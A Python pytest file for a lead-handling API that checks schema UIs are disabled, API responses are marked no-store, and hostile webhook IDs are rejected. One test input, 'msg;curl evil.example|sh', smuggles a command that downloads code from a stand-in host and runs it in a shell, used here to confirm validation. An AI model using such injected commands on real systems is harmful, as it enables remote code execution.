"""What the API hands out beyond its data (issue 17): the schema UIs pulled unpinned scripts from CDNs into the
console's origin — only the OpenAPI document is served now (``/schema`` and ``/schema/openapi.json``); and every
``/api/*`` answer carries ``Cache-Control: no-store`` (they hold people's names, emails and phones), errors too."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from litestar.testing import AsyncTestClient

from connector.settings import load_settings
from leadrelay.api.app import create_app
from tests.tokens import ADMIN_TOKEN, API_TOKENS, bearer

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
async def client(redis_url: str, signing_secrets: None) -> AsyncIterator[AsyncTestClient]:  # type: ignore[type-arg]
    settings = load_settings({}, redis_url=redis_url, key_prefix="exposure-lr:", config_dir=str(ROOT),
                             api_tokens=API_TOKENS)
    async with AsyncTestClient(create_app(settings, crm=False)) as c:
        yield c


@pytest.mark.parametrize("path", ["/schema/swagger", "/schema/redoc", "/schema/elements", "/schema/rapidoc"])
async def test_no_schema_ui_is_served(client, path: str) -> None:  # type: ignore[no-untyped-def]
    r = await client.get(path, headers=bearer())
    assert r.status_code == 404, (path, r.status_code, r.text[:200])
    assert "<script" not in r.text


async def test_the_openapi_document_is_served_as_json(client) -> None:  # type: ignore[no-untyped-def]
    for path in ("/schema", "/schema/openapi.json"):
        r = await client.get(path, headers=bearer())
        assert r.status_code == 200, path
        assert "json" in r.headers["content-type"], (path, r.headers["content-type"])
        assert r.json()["openapi"].startswith("3.") and "/api/leads/{lead_id}" in r.json()["paths"]


@pytest.mark.parametrize(("path", "headers", "status"), [
    ("/api/leads/ld_0123456789abcdef0123", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 404),
    ("/api/leads/ld_0123456789abcdef0123", {}, 401),
    ("/api/admin/config", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 200),
    ("/api/admin/dead-letters", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 200),
    ("/api/admin/decisions", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 200),
    ("/api/no-such-thing", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 404),
])
async def test_every_api_answer_is_no_store(client, path: str, headers: dict[str, str], status: int) -> None:  # type: ignore[no-untyped-def]
    r = await client.get(path, headers=headers)
    assert r.status_code == status, (path, r.status_code, r.text[:300])
    assert "no-store" in r.headers.get("cache-control", ""), (path, dict(r.headers))


async def test_a_form_post_with_a_hostile_webhook_id_is_400_naming_the_header(client) -> None:  # type: ignore[no-untyped-def]
    import json
    import time

    from adapters.forms.standard_webhooks import sign
    from tests.integration.harness import FORM_SECRET

    body = json.dumps({"email": "ana@example.com", "first_name": "Ana"}).encode()
    for msg_id in ("msg;curl evil.example|sh", "m" * 129):
        headers = {"content-type": "application/json", **sign(FORM_SECRET, msg_id, int(time.time()), body)}
        r = await client.post("/webhooks/forms/website", content=body, headers=headers)
        assert r.status_code == 400, (msg_id, r.status_code, r.text)
        assert r.json()["field"] == "webhook-id"
